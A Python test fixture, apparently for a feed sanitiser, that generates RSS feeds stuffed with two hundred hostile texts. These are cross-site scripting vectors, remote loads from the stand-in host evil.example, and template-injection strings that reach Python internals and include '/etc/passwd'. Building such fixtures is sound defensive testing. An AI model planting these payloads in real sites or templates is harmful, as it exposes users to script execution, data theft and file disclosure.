"""Two hundred hostile texts. If one is executed, it sets `window.ran` or sends a request to another host."""

from html import escape
from random import Random
from urllib.parse import quote

EVIL = "https://evil.example/x"
_RUN = "window.ran=1;alert(1)"

_MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={EVIL}.js></sCrIpT>",
    f"<img src=x onerror='{_RUN}'>",
    f"<img src={EVIL}.png>",
    f"<svg onload='{_RUN}'>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>a</text></a></svg>",
    f"<math><mtext></p><img src=x onerror='{_RUN}'></math>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='{EVIL}'></object>",
    f"<embed src='{EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}.css'>",
    f"<style>@import '{EVIL}.css'; body{{background:url({EVIL})}}</style>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action='{EVIL}'><input autofocus onfocus='{_RUN}'></form>",
    f"<video src=x onerror='{_RUN}'></video>",
    f"<audio autoplay onloadstart='{_RUN}' src='{EVIL}'></audio>",
    f"<details open ontoggle='{_RUN}'>a</details>",
    f"<body onload='{_RUN}'>",
    f"<marquee onstart='{_RUN}'>a</marquee>",
    f"<a href='javascript:{_RUN}'>a</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>a</a>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<!--[if mso]><script>{_RUN}</script><![endif]-->",
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror='{_RUN}'>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    f"${{{_RUN}}}",
    f"[a](javascript:{_RUN})",
    f"![a]({EVIL}.png)",
    f"<{_RUN}//",
)
PLACES = ("title", "body", "author", "picture", "address")


def payloads() -> list[tuple[str, str]]:
    """Return (place, text) for each of the two hundred payloads."""
    return [(place, text) for text in _MARKUP for place in PLACES]


def babble(number: int) -> str:
    """Return sixty words that differ for each number, so that no item looks like a copy of another."""
    chance = Random(number)
    syllables = [f"{one}{two}" for one in "bdfgklmnprstvz" for two in "aeiou"]
    return " ".join("".join(chance.choices(syllables, k=3)) for _ in range(60)).capitalize() + "."


def hostile_item(number: int, texts: dict[str, str]) -> str:
    """Return a feed item with a payload in each place."""
    own = babble(number)
    body = f"<p>{own}</p><p>{escape(texts['body'])}</p>{texts['body']}"
    return (
        f"<item><title>{escape(f'{own[:40]} ' + texts['title'])}</title>"
        f"<link>https://paper.example/{number}?{escape(quote(texts['address'], safe='<>()=;:/'))}&amp;n={number}</link>"
        f"<guid isPermaLink='false'>{number} {escape(texts['address'])}</guid>"
        f"<dc:creator>{escape(texts['author'])}</dc:creator>"
        f"<enclosure url='https://evil.example/{escape(texts['picture'], quote=True)}.png' type='image/png'/>"
        "<pubDate>Fri, 20 Nov 2026 09:00:00 +0000</pubDate>"
        f"<description>{escape(body)}</description></item>"
    )


def hostile_feeds(count: int) -> list[str]:
    """Return `count` feeds that contain all payloads, five in each item."""
    items: list[dict[str, str]] = []
    for place, text in payloads():
        if not items or place in items[-1]:
            items.append({})
        items[-1][place] = text
    feeds: list[list[str]] = [[] for _ in range(count)]
    for number, texts in enumerate(items):
        feeds[number % count].append(hostile_item(number, texts))
    return [
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<channel><title>{escape('<script>window.ran=1</script>')}</title>{''.join(found)}</channel></rss>"
        for found in feeds
    ]
